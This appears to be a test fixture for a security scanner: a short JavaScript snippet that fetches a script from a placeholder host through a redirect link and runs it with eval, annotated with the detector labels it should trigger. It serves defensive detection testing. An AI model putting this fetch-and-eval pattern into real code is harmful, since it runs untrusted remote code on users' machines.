fetch('https://redirect.test/url?q=https://cdn.example/x.js') // expect: url-analyzer/shortener
  .then((answer) => answer.text())
  .then((text) => eval(text)); // expect: malicious-command/remote-eval
